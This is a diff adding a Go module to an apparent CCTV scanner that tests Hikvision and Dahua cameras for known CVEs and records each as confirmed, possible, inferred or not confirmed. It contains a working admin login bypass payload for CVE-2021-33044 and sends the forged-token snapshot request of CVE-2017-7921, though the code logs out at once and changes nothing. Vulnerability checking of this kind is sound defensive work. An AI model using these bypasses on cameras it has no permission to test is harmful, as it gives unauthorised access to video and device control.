@@ -0,0 +1,154 @@
+package probe
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"regexp"
+	"strings"
+
+	"github.com/postfix/cctvscan/internal/util"
+)
+
+// Statuses of a CVE on a host
+const (
+	CVEConfirmed    = "confirmed"     // The device did what only vulnerable firmware does
+	CVEPossible     = "possible"      // The vulnerable code is reachable; the check stops short of exploiting it
+	CVENotConfirmed = "not confirmed" // The device behaved as patched firmware does
+	CVEInferred     = "inferred"      // Listed for the brand, model or firmware; no check covers it
+)
+
+// CVECheck is the outcome of a check of one CVE
+type CVECheck struct {
+	CVE      string
+	Status   string // CVEConfirmed, CVEPossible, CVENotConfirmed or CVEInferred
+	URL      string
+	Evidence string
+}
+
+// cveCheck checks one CVE against the web server at base. ok is false when the
+// server is not the kind the check targets, so the next port is tried.
+type cveCheck struct {
+	cve   string
+	check func(ctx context.Context, client *http.Client, base string) (c CVECheck, ok bool)
+}
+
+// cveChecks maps lower case platforms to the checks of their CVEs. None changes
+// the configuration of the device or runs a command on it.
+var cveChecks = map[string][]cveCheck{
+	"hikvision": {
+		{ISAPIBypassCVE, checkISAPIBypass},
+	},
+	"dahua": {
+		{"CVE-2021-33044", checkNetKeyboardLogin},
+	},
+}
+
+// HasCVEChecks reports whether CheckCVEs knows checks for brand
+func HasCVEChecks(brand string) bool {
+	_, ok := cveChecks[strings.ToLower(brand)]
+	return ok
+}
+
+// CheckCVEs runs the checks of the CVEs of brand, a platform such as Hikvision,
+// against each HTTP port until the server is one the check targets
+func CheckCVEs(ctx context.Context, host string, ports []int, brand string) []CVECheck {
+	client := ConfigFrom(ctx).HTTP.Client()
+	client.CheckRedirect = func(req *http.Request, via []*http.Request) error {
+		return http.ErrUseLastResponse
+	}
+	var checks []CVECheck
+	for _, c := range cveChecks[strings.ToLower(brand)] {
+		for _, p := range ports {
+			if ctx.Err() != nil {
+				return checks
+			}
+			base := DetectScheme(ctx, host, p) + "://" + net.JoinHostPort(host, util.Itoa(p))
+			if result, ok := c.check(ctx, client, base); ok {
+				result.CVE = c.cve
+				checks = append(checks, result)
+				break
+			}
+		}
+	}
+	return checks
+}
+
+// checkISAPIBypass requests the snapshot with the forged auth token of
+// CVE-2017-7921, which reads a live image from a vulnerable device
+func checkISAPIBypass(ctx context.Context, client *http.Client, base string) (CVECheck, bool) {
+	url := base + isapiBypassPath
+	if isapiBypass(ctx, client, url) {
+		return CVECheck{Status: CVEConfirmed, URL: url, Evidence: "snapshot served with the forged auth token"}, true
+	}
+	// Only a Hikvision web server knows the snapshot path; others say 404
+	endpoint, _, err := isapiGet(ctx, client, base, "/onvif-http/snapshot")
+	if err != nil || endpoint.Status == http.StatusNotFound {
+		return CVECheck{}, false
+	}
+	return CVECheck{Status: CVENotConfirmed, URL: url, Evidence: "forged auth token refused"}, true
+}
+
+// WebLanguageCVE is the Hikvision command injection through /SDK/webLanguage
+const WebLanguageCVE = "CVE-2021-36260"
+
+// webLanguageFixedBuild is the build date of the first firmware fixing
+// WebLanguageCVE (HSRC-202109-01)
+const webLanguageFixedBuild = "210628"
+
+// buildRe finds the build date of Hikvision firmware, e.g. "V5.4.5 build 170124"
+var buildRe = regexp.MustCompile(`(?i)build\s*(\d{6})`)
+
+// InferWebLanguage tells WebLanguageCVE from the build date of Hikvision firmware.
+// The injection can only be checked by writing to the device, which the handler
+// does without credentials on vulnerable firmware, so it is not checked: builds
+// before the fix have it inferred, later ones not confirmed. ok is false when
+// firmware has no build date.
+func InferWebLanguage(firmware string) (c CVECheck, ok bool) {
+	m := buildRe.FindStringSubmatch(firmware)
+	if m == nil {
+		return CVECheck{}, false
+	}
+	c = CVECheck{CVE: WebLanguageCVE, Status: CVENotConfirmed, Evidence: fmt.Sprintf("firmware build %s is not older than the fixed build %s", m[1], webLanguageFixedBuild)}
+	if m[1] < webLanguageFixedBuild {
+		c.Status, c.Evidence = CVEInferred, fmt.Sprintf("firmware build %s is older than the fixed build %s", m[1], webLanguageFixedBuild)
+	}
+	return c, true
+}
+
+// netKeyboardLogin logs in as admin with the NetKeyboard client type, which
+// CVE-2021-33044 lets through without a password
+const netKeyboardLogin = `{"method":"global.login","params":{"userName":"admin","password":"Not Used","clientType":"NetKeyboard","loginType":"Direct","authorityType":"Default","passwordType":"Default"},"id":1,"session":0}`
+
+// checkNetKeyboardLogin tries the CVE-2021-33044 login and, when it is let in,
+// logs the session out again at once
+func checkNetKeyboardLogin(ctx context.Context, client *http.Client, base string) (CVECheck, bool) {
+	url := base + "/RPC2_Login"
+	resp, err := deviceRequest(ctx, client, http.MethodPost, url, netKeyboardLogin, "")
+	if err != nil {
+		return CVECheck{}, false
+	}
+	defer resp.Body.Close()
+	var answer struct {
+		Result  *bool           `json:"result"`
+		Session json.RawMessage `json:"session"`
+	}
+	if resp.StatusCode != http.StatusOK || json.NewDecoder(io.LimitReader(resp.Body, maxDeviceInfoSize)).Decode(&answer) != nil || answer.Result == nil {
+		return CVECheck{}, false // Not an RPC2 server
+	}
+	if !*answer.Result {
+		return CVECheck{Status: CVENotConfirmed, URL: url, Evidence: "NetKeyboard login refused"}, true
+	}
+	session := string(answer.Session)
+	if session == "" {
+		session = "0"
+	}
+	logout := fmt.Sprintf(`{"method":"global.logout","params":null,"id":2,"session":%s}`, session)
+	if resp, err := deviceRequest(ctx, client, http.MethodPost, base+"/RPC2", logout, ""); err == nil {
+		resp.Body.Close()
+	}
+	return CVECheck{Status: CVEConfirmed, URL: url, Evidence: "logged in as admin without a password as NetKeyboard"}, true
+}